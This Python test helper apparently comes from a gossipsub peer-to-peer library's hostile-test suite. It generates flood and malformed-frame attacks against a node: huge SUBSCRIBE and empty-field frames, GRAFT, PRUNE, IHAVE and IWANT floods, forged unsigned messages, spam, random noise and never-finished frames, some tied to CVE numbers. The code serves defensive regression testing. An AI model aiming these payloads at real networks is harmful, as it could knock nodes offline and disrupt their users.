"""What attackers say in gossipsub, from another process (see `attacks`)."""

from __future__ import annotations

import random
from contextlib import suppress
from itertools import count, repeat
from typing import TYPE_CHECKING, Final

import anyio

from peerloom._errors import PeerloomError, StreamReset
from peerloom._libp2p import KeyPair
from peerloom_gossipsub import SigningPolicy
from peerloom_gossipsub._encode import encode_rpc, framed
from peerloom_gossipsub._protobuf import bytes_field, varint_field
from peerloom_gossipsub._rpc import IHave, Prune, Rpc, Subscription
from peerloom_gossipsub._signing import Publisher
from tests.hostile.foe import GONE, link_to, stream_under, until_reset

if TYPE_CHECKING:
    from collections.abc import Iterator

    from multiaddr import Multiaddr

    from peerloom._links import MuxedLink

TOPIC: Final = "news"
MESHSUB: Final = "/meshsub/1.2.0"
MIB: Final = 1 << 20
LEAST_FRAMES: Final = 20
MOST_SECONDS: Final = 30.0
JOIN: Final = framed(encode_rpc(Rpc(subscriptions=[Subscription(TOPIC, subscribed=True)]))[0])
_CONTROL: Final = 3


def said(**content: object) -> bytes:
    """RPCs with their lengths in front."""
    return b"".join(map(framed, encode_rpc(Rpc(**content))))  # type: ignore[arg-type]


def subscribe_frame() -> bytes:
    """CVE-2026-46679: one frame of 4 MB with 349,525 SUBSCRIBEs."""
    return framed(bytes_field(1, varint_field(1, 1) + bytes_field(2, b"topic1")) * 349_525)


def empty_entries(number: int, *, in_control: bool = False) -> bytes:
    """A frame of 4 MiB of empty sub-messages in one repeated field."""
    entry = bytes_field(number, b"")
    size = MIB - 16 if in_control else 4 * MIB - 16
    entries = entry * (size // len(entry))
    return framed(bytes_field(_CONTROL, entries) if in_control else entries)


def subscribes() -> Iterator[bytes]:
    """CVE-2026-46679."""
    frame = subscribe_frame()
    while True:
        yield frame


def emptiness() -> Iterator[bytes]:
    """CVE-2026-86040: 4 MiB of empty sub-messages in every repeated field."""
    frames = [empty_entries(number) for number in (1, 2, 3, 9)]
    frames += [empty_entries(number, in_control=True) for number in range(1, 6)]
    while True:
        yield from frames


def empty_frames() -> Iterator[bytes]:
    """Frames of no bytes at all."""
    while True:
        yield bytes(1 << 16)


def small_frames() -> Iterator[bytes]:
    """Frames that cost far more than they weigh."""
    while True:
        yield said(graft=["u"]) * 200


def grafts() -> Iterator[bytes]:
    """CVE-2026-95859: topics that nobody has heard of, each another one."""
    for number in count():
        yield said(graft=[f"topic {number} {each}" for each in range(500)])


def grafts_within_backoff() -> Iterator[bytes]:
    """The same topic again and again, after each PRUNE."""
    while True:
        yield said(graft=[TOPIC], prune=[Prune(TOPIC, 60)]) * 100


def ihaves() -> Iterator[bytes]:
    """Messages that do not exist."""
    rng = random.Random(1)
    while True:
        ids = [rng.randbytes(42) for _ in range(1000)]
        yield said(ihave=[IHave(TOPIC, ids)])


def idontwants() -> Iterator[bytes]:
    """Ids without end."""
    rng = random.Random(1)
    while True:
        yield said(idontwant=[rng.randbytes(42) for _ in range(1000)])


def prunes() -> Iterator[bytes]:
    """CVE-2026-33040 and CVE-2026-34219: backoffs of any size."""
    backoffs = [None, 0, 1, 2**31, 2**63 - 1, 2**64 - 1]
    while True:
        yield b"".join(said(prune=[Prune(TOPIC, each)]) for each in backoffs) * 100


def changes() -> Iterator[bytes]:
    """Topics subscribed to and left, without end."""
    for number in count():
        topics = [f"topic {number} {each}" for each in range(200)]
        yield said(
            subscriptions=[
                Subscription(each, subscribed) for each in topics for subscribed in (True, False)
            ]
        )


def forgeries() -> Iterator[bytes]:
    """CVE-2020-12821: frames full of small messages, none of them signed by its author."""
    publisher = Publisher(KeyPair.generate(), SigningPolicy.STRICT_SIGN, 1)
    raw = publisher.make(TOPIC, b"spam").raw
    rng = random.Random(1)
    while True:
        frame = b"".join(bytes_field(2, raw[:-16] + rng.randbytes(16)) for _ in range(6000))
        yield framed(frame)


def spam() -> Iterator[bytes]:
    """Valid messages without end: nobody can tell that they are worth nothing."""
    publisher = Publisher(KeyPair.generate(), SigningPolicy.STRICT_SIGN, 1)
    while True:
        yield said(messages=[publisher.make(TOPIC, b"spam") for _ in range(50)])


def repetitions() -> Iterator[bytes]:
    """One valid message again and again."""
    publisher = Publisher(KeyPair.generate(), SigningPolicy.STRICT_SIGN, 1)
    frame = said(messages=[publisher.make(TOPIC, b"once")])
    while True:
        yield frame * 200


def noise() -> Iterator[bytes]:
    """Frames of random bytes, and lengths that are none."""
    rng = random.Random(1)
    while True:
        yield framed(rng.randbytes(rng.randrange(1, 2000)))
        yield rng.randbytes(200)


WORDS: Final = {
    each.__name__: each
    for each in (
        changes,
        emptiness,
        empty_frames,
        forgeries,
        grafts,
        grafts_within_backoff,
        idontwants,
        ihaves,
        noise,
        prunes,
        repetitions,
        small_frames,
        spam,
        subscribes,
    )
}


class _Speech:
    """Frames, so many at least, and for so long at least."""

    def __init__(self, frames: Iterator[bytes], seconds: float) -> None:
        self._frames = frames
        self._seconds = seconds
        self._said = 0
        self._began_at = 0.0

    @property
    def is_over(self) -> bool:
        took = anyio.current_time() - self._began_at
        return self._said >= LEAST_FRAMES and took >= self._seconds

    def next(self) -> bytes:
        self._began_at = self._began_at or anyio.current_time()
        self._said += 1
        return next(self._frames)


async def gossip(address: Multiaddr, words: str, seconds: float = 1.0, identities: int = 1) -> None:
    """Say such words as fast as they are taken, on a new stream whenever one is reset.

    With several `identities` each connection is another peer's, and lasts for some frames only.
    """
    speech = _Speech(WORDS[words](), seconds)
    most = 8 if identities > 1 else None
    with anyio.move_on_after(MOST_SECONDS):
        for number in count():
            with suppress(OSError, PeerloomError):  # not let in
                async with link_to(address, ("tls",), _identity(number % identities)) as link:
                    await _say(link, speech, most)
            if speech.is_over:
                return
            await anyio.sleep(0.01)


async def _say(link: MuxedLink, speech: _Speech, most: int | None) -> None:
    said = 0
    while not speech.is_over and said != most:
        with suppress(StreamReset):
            stream = await stream_under(link, MESHSUB)
            await stream.send(JOIN)
            while not speech.is_over and said != most:
                said += 1
                await stream.send(speech.next())
            await stream.send_eof()
            await until_reset(stream)  # all of it is taken


async def unfinished_frames(address: Multiaddr, peers: int = 30) -> None:
    """Frames of 4 MiB whose last byte never comes, four of each peer, until killed."""
    body = framed(bytes(4 * MIB))[: 4 * MIB - 1]

    async def one(number: int) -> None:
        async with link_to(address, ("tls",), _identity(number)) as link:
            for _ in range(4):
                with suppress(*GONE, PeerloomError):
                    stream = await stream_under(link, MESHSUB)
                    await stream.send(body)
            await anyio.sleep_forever()

    async with anyio.create_task_group() as tasks:
        for number in range(peers):
            tasks.start_soon(one, number)


async def iwants(address: Multiaddr, wanted: str, seconds: float = 1.0) -> None:
    """Ask for one message again and again, and never read the answer."""
    frame = said(iwant=[bytes.fromhex(wanted)]) * 200
    with anyio.move_on_after(MOST_SECONDS):
        async with link_to(address, ("tls",)) as link:
            await _say(link, _Speech(repeat(frame), seconds), None)


def _identity(number: int) -> KeyPair:
    return KeyPair.from_seed(number.to_bytes(32, "big"))
